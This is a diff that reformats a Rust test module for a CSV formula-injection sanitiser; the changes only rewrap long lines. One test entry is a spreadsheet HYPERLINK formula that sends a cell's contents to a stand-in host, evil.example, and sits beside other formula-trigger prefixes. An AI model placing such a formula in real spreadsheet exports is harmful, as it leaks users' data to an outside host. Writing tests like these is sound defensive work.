@@ -63,7 +63,10 @@ mod tests {
     #[test]
     fn formula_cells_are_neutralised() {
         let table = [
-            ("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")", true),
+            (
+                "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")",
+                true,
+            ),
             ("+1+1", true),
             ("-2+3", true),
             ("@SUM(A1)", true),
@@ -76,7 +79,11 @@ mod tests {
         ];
         for (cell, risky) in table {
             let out = neutralise(cell);
-            assert_eq!(out.starts_with('\'') && !cell.starts_with('\''), risky, "{cell:?}");
+            assert_eq!(
+                out.starts_with('\'') && !cell.starts_with('\''),
+                risky,
+                "{cell:?}"
+            );
             assert!(out.ends_with(cell));
         }
         let mut w = CsvOut::new();
@@ -92,7 +99,10 @@ mod tests {
     #[test]
     fn only_this_module_writes_csv() {
         let mut offenders = Vec::new();
-        let mut stack = vec![std::path::PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/src"))];
+        let mut stack = vec![std::path::PathBuf::from(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/src"
+        ))];
         while let Some(dir) = stack.pop() {
             for e in std::fs::read_dir(dir).unwrap().flatten() {
                 let p = e.path();
@@ -106,6 +116,9 @@ mod tests {
                 }
             }
         }
-        assert!(offenders.is_empty(), "write CSV through csv_out: {offenders:?}");
+        assert!(
+            offenders.is_empty(),
+            "write CSV through csv_out: {offenders:?}"
+        );
     }
 }
